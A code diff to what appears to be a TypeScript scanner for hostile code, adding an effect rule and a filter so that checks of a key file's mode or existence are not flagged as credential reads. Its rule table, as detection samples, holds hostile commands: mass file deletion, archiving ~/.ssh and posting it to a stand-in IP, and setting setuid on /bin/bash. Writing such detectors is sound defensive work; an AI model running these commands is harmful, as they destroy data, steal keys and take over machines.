@@ -3,8 +3,9 @@ import {
   EXFIL_HOST, PAYLOAD_PATTERNS, WELL_KNOWN_INSTALLER, decodeExec, downloadExec, exfilHost, exfiltration, miner, probe, probePatterns, reverseShell, secretShape,
   type Probe,
 } from '../parse/code-payload.js';
-import { codeFrame, type CodeFrame } from '../parse/code-frame.js';
+import { codeFrame, metadataOnly, type CodeFrame } from '../parse/code-frame.js';
 import { CODE_ROWS, rowDetail, type CodeRow } from '../parse/code-rows.js';
+import { CODE_EFFECT_RULE } from '../parse/code-effects.js';
 import { guardsTakenOut } from '../parse/code-guards.js';
 import { CODE_SHELL_PATTERNS, embeddedCommands, shellScript } from '../parse/code-shell.js';
 import { commandFindings, queryFindings } from '../nested.js';
@@ -764,6 +765,7 @@ const GUARD_KEYS = ['verify', 'valid', '*auth', 'check', 'signature', 'permissio
 
 const rules: ThreatRule<CodeContext>[] = [
   ...CODE_ROWS.map(rowRule),
+  CODE_EFFECT_RULE as unknown as ThreatRule<CodeContext>,
   shellRule('G38', 'DESTRUCTION', 'destroys data', 'import os\nos.system("find / -name \'*.bak\' | xargs rm -f")', 'subprocess.run(["rm", "-rf", "build"], check=True)'),
   shellRule('G39', 'EXFILTRATION', 'sends data out', "execSync('tar czf - ~/.ssh | curl -X POST --data-binary @- http://198.51.100.8/u')", "execSync('tar czf dist.tgz dist')"),
   shellRule('G40', 'ESCALATION', 'takes control of the machine', 'exec.Command("sh", "-c", "chmod u+s /bin/bash").Run()', 'exec.Command("git", "pull", "--ff-only").Run()'),
@@ -1150,6 +1152,8 @@ const rules: ThreatRule<CodeContext>[] = [
         if (net) return { detail: `reads ${what} and sends data over the network${host ? ` (${host})` : ''}`, score: 9 };
         const before = ctx.lower.slice(Math.max(0, cred.index - 60), cred.index);
         if (KEY_USE.some((k) => before.includes(k))) return null;
+        // os.chmod(key, 0o600), File.exist?(key): the file's mode or existence, not its contents
+        if (metadataOnly(t.toLowerCase(), cred.index)) return null;
         return { detail: `reads credential file ${what}`, score: 5 };
       }
       return null;
